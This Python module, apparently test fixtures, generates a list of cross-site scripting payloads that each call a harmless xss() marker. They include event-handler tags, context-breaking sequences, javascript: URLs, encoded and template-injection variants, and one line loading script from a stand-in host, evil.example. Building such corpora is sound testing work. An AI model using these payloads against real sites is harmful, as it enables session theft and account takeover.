"""Texts that would run as script if a page did not escape them. Each calls `xss()`."""

from __future__ import annotations

import itertools
from collections.abc import Iterator
from typing import Final
from urllib.parse import quote

#: Elements that run by themselves or on the first interaction.
ELEMENTS: Final = (
    "<script>xss()</script>",
    "<script src=data:,xss()></script>",
    "<img src=x onerror=xss()>",
    "<img/src/onerror=xss()>",
    "<image src=x onerror=xss()>",
    "<svg onload=xss()>",
    "<svg/onload=xss()>",
    "<svg><script>xss()</script></svg>",
    "<svg><animate onbegin=xss() attributeName=x dur=1s>",
    "<svg><set onbegin=xss()>",
    "<body onload=xss()>",
    "<iframe srcdoc='<script>parent.xss()</script>'>",
    "<iframe src=javascript:parent.xss()>",
    "<object data=javascript:xss()>",
    "<embed src=javascript:xss()>",
    "<video><source onerror=xss()>",
    "<audio src onerror=xss()>",
    "<details open ontoggle=xss()>",
    "<input autofocus onfocus=xss()>",
    "<select autofocus onfocus=xss()>",
    "<textarea autofocus onfocus=xss()>",
    "<a href=javascript:xss()>x</a>",
    "<form action=javascript:xss()><button>x</button></form>",
    "<button formaction=javascript:xss()>x",
    "<math href=javascript:xss()>x",
    "<marquee onstart=xss()>",
    "<style onload=xss()>",
    "<style>@import'javascript:xss()'</style>",
    "<link rel=stylesheet href=data:, onload=xss()>",
    "<meta http-equiv=refresh content='0;javascript:xss()'>",
    "<base href=javascript:/xss()//>",
    "<x onclick=xss()>x",
    "<p style=animation-name:x onanimationstart=xss()>",
    "<template><img src=x onerror=xss()></template>",
)

#: Sequences that close the context in which a text is placed.
ENDS: Final = (
    "",
    '">',
    "'>",
    "</li>",
    "</textarea>",
    "</title>",
    "</option></select>",
    "</script>",
    "</style>",
    "--><!--",
    "]]>",
    "</svg>",
    "\u2028",
    "\x00",
)

#: Texts that would become a second attribute.
EVENTS: Final = (
    "onclick",
    "onfocus",
    "onmouseover",
    "onanimationstart",
    "onpointerenter",
    "onload",
    "onerror",
)
QUOTES: Final = ('"', "'", "`", " ", "\t", "\u00a0")

SCHEMES: Final = (
    "javascript:xss()",
    "JaVaScRiPt:xss()",
    "java\tscript:xss()",
    " javascript:xss()",
    "\x01javascript:xss()",
    "javascript&colon;xss()",
    "javascript://%0axss()",
    "data:text/html,<script>parent.xss()</script>",
    "vbscript:xss()",
    "//evil.example/xss.js",
)

#: Other template and script languages, and disguised texts.
OTHERS: Final = (
    "{{constructor.constructor('xss()')()}}",
    "{{ 7*7 }}",
    "{% include 'x' %}",
    "${xss()}",
    "#{xss()}",
    "<%= xss() %>",
    "{ $name }",
    "{ xss() }",
    "&lt;script&gt;xss()&lt;/script&gt;",
    "&#60;script&#62;xss()&#60;/script&#62;",
    "&#x3c;img src=x onerror=xss()&#x3e;",
    "\\u003cscript\\u003exss()\\u003c/script\\u003e",
    "\\x3cimg src=x onerror=xss()\\x3e",
    "+ADw-script+AD4-xss()+ADw-/script+AD4-",
    "＜script＞xss()＜/script＞",
    "‹script›xss()‹/script›",
    "¼script¾xss()¼/script¾",
    "\u202e>tpircs<",
    "';xss()//",
    '";xss()//',
    "\\';xss()//",
    "'-xss()-'",
    "*/xss()/*",
    "\nxss()\n",
    "<scr<script>ipt>xss()</scr</script>ipt>",
    "<<script>xss()//<</script>",
    "<script\n>xss()</script\n>",
    "<ScRiPt>xss()</sCrIpT>",
    "<script/x>xss()</script>",
    "<svg><style><img src=x onerror=xss()></style>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror=xss()>'>",
    "<noscript><p title='</noscript><img src=x onerror=xss()>'>",
    "<!--><img src=x onerror=xss()>-->",
    "<![CDATA[<img src=x onerror=xss()>]]>",
    "<?xml-stylesheet href='javascript:xss()'?>",
    "<xmp><img src=x onerror=xss()></xmp>",
    "<a id=table>",
    "<form id=actions><input name=action>",
    "<p id=prompt>",
    "<li data-at='x' onclick=xss()>",
)


def all_payloads() -> Iterator[str]:
    """Yield every payload once."""
    yield from ["".join(pair) for pair in itertools.product(ENDS, ELEMENTS)]
    for quote_sign, event in itertools.product(QUOTES, EVENTS):
        yield f"x{quote_sign} {event}=xss() autofocus tabindex=1 x={quote_sign}"
    yield from SCHEMES
    yield from OTHERS
    yield from [quote(payload) for payload in ELEMENTS[:8]]


PAYLOADS: Final = tuple(dict.fromkeys(all_payloads()))
